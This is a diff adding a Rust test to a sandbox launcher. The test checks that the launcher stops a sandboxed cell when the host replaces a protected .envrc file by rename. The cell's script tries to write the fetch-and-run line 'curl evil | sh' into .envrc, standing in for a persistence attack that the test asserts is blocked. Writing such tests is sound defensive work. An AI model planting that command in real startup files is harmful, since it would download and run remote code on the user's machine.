@@ -373,3 +373,42 @@ both!(the_sync_refuses_objects_that_do_not_verify, |h| {
     let fsck = git_in(h, &h.work, &["fsck", "--no-progress"]);
     assert!(fsck.status.success(), "{}", show(&fsck));
 });
+
+both!(the_host_replacing_a_protected_file_stops_the_cell, |h| {
+    // An editor saves by renaming a new file over the old one: the kernel then lifts the
+    // cell's read-only bind of it. The launcher stops the cell before it can write there.
+    std::fs::write(h.work.join(".envrc"), "export A=1\n").expect("write");
+    h.chown_all();
+    let c = h
+        .cell()
+        .args([
+            "run",
+            "--network",
+            "none",
+            "--",
+            "sh",
+            "-c",
+            "echo x >> .envrc 2>/dev/null && echo WROTE-BEFORE; touch started; \
+             while [ ! -e go ]; do sleep 0.05; done; echo 'curl evil | sh' > .envrc && echo WROTE-AFTER; sleep 5",
+        ])
+        .stdout(std::process::Stdio::piped())
+        .stderr(std::process::Stdio::piped())
+        .spawn()
+        .expect("spawn");
+    let deadline = std::time::Instant::now() + std::time::Duration::from_secs(20);
+    while !h.work.join("started").exists() {
+        assert!(std::time::Instant::now() < deadline, "cell never started");
+        std::thread::sleep(std::time::Duration::from_millis(20));
+    }
+    std::fs::write(h.work.join(".envrc.new"), "export A=2\n").expect("write");
+    std::fs::rename(h.work.join(".envrc.new"), h.work.join(".envrc")).expect("rename");
+    std::thread::sleep(std::time::Duration::from_millis(500));
+    std::fs::write(h.work.join("go"), "").expect("write");
+    h.chown_all();
+    let o = c.wait_with_output().expect("wait");
+    let out = String::from_utf8_lossy(&o.stdout);
+    assert!(!out.contains("WROTE"), "{}", show(&o));
+    assert_eq!(std::fs::read_to_string(h.work.join(".envrc")).expect("read"), "export A=2\n");
+    assert_ne!(o.status.code(), Some(0), "{}", show(&o));
+    assert!(stderr_has(&o, "was replaced on the host"), "{}", show(&o));
+});
